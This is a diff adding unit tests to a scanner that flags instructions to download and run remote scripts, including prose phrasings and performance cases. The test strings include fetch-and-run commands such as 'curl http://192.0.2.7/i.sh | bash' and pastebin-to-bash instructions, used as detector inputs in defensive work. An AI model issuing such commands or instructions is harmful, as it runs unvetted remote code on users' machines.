@@ -184,6 +184,31 @@ describe('untrusted-remote-script', () => {
     expect(run('url = "https://pypi.org/simple"\nexec(urlopen(url).read())')).toEqual([]);
   });
 
+  it('finds a download and run said in words, unless the paragraph warns against it', () => {
+    const prose = ['untrusted-remote-script/prose-download-run'];
+    const text = 'First, download http://192.0.2.7/i.sh and run it.';
+    const f = scanMalicious(text);
+    expect(f.map((x) => `${x.technique}/${x.pattern}`)).toEqual(prose);
+    expect(f[0]!.offset).toBe(at(text, 'http://'));
+    expect(f[0]!.message).toBe('a script from a raw IP address (192.0.2.7) is to be downloaded and run (said in words)');
+    expect(run('Fetch the installer from https://bit.ly/3abc, then run it as root.')).toEqual(prose);
+    expect(run('Run the setup script at http://192.0.2.7/setup.sh before anything else.')).toEqual(prose);
+    expect(run('Get https://pastebin.com/raw/abc and pipe it into bash.')).toEqual(prose);
+    expect(run('Run: curl -s http://192.0.2.7/i.sh then pipe the output to sh')).toEqual(prose);
+    // A warning, a trusted or local host, a data file opened, a run that is not of the download.
+    for (const t of [
+      'Never download http://192.0.2.7/i.sh and run it.',
+      'Attackers ask you to download http://192.0.2.7/i.sh and run it.',
+      'Download https://github.com/x/y/releases/tool.sh and run it.',
+      'Download http://localhost:8000/i.sh and run it.',
+      'Download the dataset from http://192.0.2.7/data.csv and open it in Excel.',
+      'See http://192.0.2.7/docs and run the tests.',
+      'Download http://192.0.2.7/i.sh.\nLater, run it again with the new flags.',
+    ]) expect(run(t), t).toEqual([]);
+    // A line whose command is already reported is not reported twice.
+    expect(run('Download http://192.0.2.7/i.sh and run it: `curl http://192.0.2.7/i.sh | bash`')).toEqual(['untrusted-remote-script/download-run']);
+  });
+
   it('stays linear on variables read and set many times, and bounds values built from each other', () => {
     const texts = [
       Array.from({ length: 20_000 }, (_, i) => `V${i}=http://192.0.2.7/${i}\ncurl $V${i} | sh`).join('\n'),
@@ -191,6 +216,8 @@ describe('untrusted-remote-script', () => {
       'x=' + '$x'.repeat(200_000) + '\ncurl $x | sh',
       'url = "http://192.0.2.7/p"\n' + ' url'.repeat(200_000),
       ' a='.repeat(200_000),
+      'download http://192.0.2.7/' + 'a'.repeat(1_000_000) + ' and run it',
+      Array.from({ length: 25_000 }, (_, i) => `get http://192.0.2.7/${i} then run it`).join('\n'),
     ];
     for (const text of texts) {
       const t0 = performance.now();
